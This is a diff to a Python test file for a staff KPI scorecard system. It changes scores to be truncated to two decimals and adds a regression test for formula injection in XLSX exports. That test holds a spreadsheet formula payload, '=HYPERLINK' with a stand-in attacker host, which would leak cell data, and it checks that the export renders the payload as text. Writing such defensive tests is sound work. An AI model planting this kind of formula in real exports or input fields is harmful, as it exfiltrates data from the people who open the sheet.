@@ -48,6 +48,17 @@ def test_a_kpi_without_data_drops_out_and_the_rest_scale_to_100():
     assert score({"sla": None, "pickup": None}, weights)[0] is None
 
 
+@pytest.mark.parametrize(("value", "total", "band"), [
+    (0.94995, "94.99", "good"), (0.949999, "94.99", "good"), (0.95, "95.00", "excellent"),
+    (0.89999, "89.99", "competent"), (0.59995, "59.99", "not_competent"),
+])
+def test_the_score_is_cut_to_two_decimals_and_the_band_follows_the_figure_shown(value, total, band):
+    """94.995 was rounded up to 95.00 and banded 优秀; the figure is cut, never rounded across a band."""
+    weights = {"sla": (Decimal(100), Decimal(1))}
+    assert score({"sla": value}, weights)[0] == Decimal(total)
+    assert band_for(score({"sla": value}, weights)[0]) == band
+
+
 @pytest.fixture
 def october(make_ticket, member):
     """agent1's October: 20 deadlines due (1 breached), 10 survey answers (8 satisfied or better),
@@ -84,8 +95,8 @@ def test_the_months_score_from_the_kpis(october, member):
         "pickup": (0.9, 9, 10, "15.00"),
         "errors": (0.2, 1, 5, "12.24"),
     }
-    # 30 + 25 × 0.8 / 0.9 + 15 × 0.75 / 0.95 + 15 + 15 × 0.8 / 0.98 = 91.3092…
-    assert (card.base_score, card.adjustment, card.total, card.band) == (Decimal("91.31"), 0, Decimal("91.31"),
+    # 30 + 25 × 0.8 / 0.9 + 15 × 0.75 / 0.95 + 15 + 15 × 0.8 / 0.98 = 91.3092…, cut to 91.30
+    assert (card.base_score, card.adjustment, card.total, card.band) == (Decimal("91.30"), 0, Decimal("91.30"),
                                                                          "good")
     assert card.team == member("agent1").position.unit
 
@@ -94,19 +105,19 @@ def test_admins_change_the_weights(october, member):
     ScoreWeight.objects.filter(kpi="satisfaction").update(weight=0)
     scorecards_compute(month=OCT)
     card = Scorecard.objects.get(staff=member("agent1"))
-    # (30 + 11.8421 + 15 + 12.2449) / 75 × 100 = 92.1160
-    assert card.total == Decimal("92.12")
+    # (30 + 11.8421 + 15 + 12.2449) / 75 × 100 = 92.1160…, cut to 92.11
+    assert card.total == Decimal("92.11")
 
 
 def test_a_supervisor_adjusts_with_a_reason_and_recomputing_keeps_it(october, member, user):
     scorecards_compute(month=OCT)
     card = Scorecard.objects.get(staff=member("agent1"))
-    adjusted = scorecard_adjust(scorecard_id=card.pk, actor=user("lead1"), adjustment="3.69", reason="表扬信一封")
+    adjusted = scorecard_adjust(scorecard_id=card.pk, actor=user("lead1"), adjustment="3.70", reason="表扬信一封")
     assert (adjusted.total, adjusted.band, adjusted.adjusted_by) == (Decimal("95.00"), "excellent", member("lead1"))
     scorecards_compute(month=OCT)
     again = Scorecard.objects.get(pk=card.pk)
     assert (again.adjustment, again.adjustment_reason, again.total, again.band) == (
-        Decimal("3.69"), "表扬信一封", Decimal("95.00"), "excellent")
+        Decimal("3.70"), "表扬信一封", Decimal("95.00"), "excellent")
 
 
 @pytest.mark.parametrize(("actor", "adjustment", "reason", "code"), [
@@ -150,7 +161,7 @@ def test_the_team_page_and_the_export(october, member):
     assert page.status_code == 200
     assert [c.staff.user.username for c in page.context["cards"]] == ["agent1"]
     html = page.content.decode()
-    assert "91.31" in html and "良好" in html
+    assert "91.30" in html and "良好" in html
     assert [c.staff.user.username for c in signed_in("agent1").get("/org/scorecards/?month=2026-10")
             .context["cards"]] == ["agent1"]
     assert signed_in("agent4").get("/org/scorecards/?month=2026-10").context["cards"] == []
@@ -159,7 +170,7 @@ def test_the_team_page_and_the_export(october, member):
     rows = list(sheet.iter_rows(values_only=True))
     assert rows[0][:4] == ("工号", "姓名", "班组", "时限达标率")
     assert rows[1][0] == member("agent1").employee_no
-    assert rows[1][-2:] == (91.31, "良好")
+    assert rows[1][-2:] == (91.30, "良好")
     assert len(rows) == 2
 
 
@@ -167,7 +178,7 @@ def test_the_page_adjusts_and_recomputes(october, member):
     scorecards_compute(month=OCT)
     card = Scorecard.objects.get(staff=member("agent1"))
     client = signed_in("lead1")
-    assert client.post(f"/org/scorecards/{card.pk}/adjust/", {"adjustment": "-1.31", "reason": "迟到两次"}).status_code \
+    assert client.post(f"/org/scorecards/{card.pk}/adjust/", {"adjustment": "-1.30", "reason": "迟到两次"}).status_code \
         == 302
     assert Scorecard.objects.get(pk=card.pk).total == Decimal("90.00")
     refused = signed_in("agent1").post(f"/org/scorecards/{card.pk}/adjust/", {"adjustment": "5", "reason": "自评"})
@@ -177,15 +188,29 @@ def test_the_page_adjusts_and_recomputes(october, member):
     assert signed_in("agent1").post("/org/scorecards/compute/", {"month": "2026-10"}).status_code == 403
 
 
+def test_a_reason_that_looks_like_a_formula_is_text_in_the_export(october, member):
+    """An adjustment reason "=HYPERLINK(…)" was a live formula in the director's XLSX export."""
+    scorecards_compute(month=OCT)
+    card = Scorecard.objects.get(staff=member("agent1"))
+    reason = '=HYPERLINK("http://evil.example/?"&A2,"点此查看")'
+    scorecard_adjust(scorecard_id=card.pk, actor=member("lead1").user, adjustment=Decimal(1), reason=reason)
+    export = signed_in("director").get("/org/scorecards/export.xlsx?month=2026-10")
+    sheet = load_workbook(io.BytesIO(export.content)).active
+    reason_cell = [cell for cell in sheet[2] if cell.value == reason]
+    assert len(reason_cell) == 1
+    assert reason_cell[0].data_type == "s"
+    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
+
+
 def test_the_scorecard_api(october, member, api):
     scorecards_compute(month=OCT)
     listed = api("lead1").get("/api/v1/scorecards/?month=2026-10").json()
     assert [(r["employee_no"], r["total"], r["band"]) for r in listed["results"]] == [
-        (member("agent1").employee_no, "91.31", "good")]
+        (member("agent1").employee_no, "91.30", "good")]
     card_id = listed["results"][0]["id"]
     adjusted = api("lead1").post(f"/api/v1/scorecards/{card_id}/adjust/", {"adjustment": "4", "reason": "表扬"},
                                  format="json")
-    assert (adjusted.status_code, adjusted.json()["total"], adjusted.json()["band"]) == (200, "95.31", "excellent")
+    assert (adjusted.status_code, adjusted.json()["total"], adjusted.json()["band"]) == (200, "95.30", "excellent")
     assert api("lead1").post(f"/api/v1/scorecards/{card_id}/adjust/", {"adjustment": "40", "reason": "x"},
                              format="json").status_code == 400
     assert api("lead2").get(f"/api/v1/scorecards/{card_id}/").status_code == 404
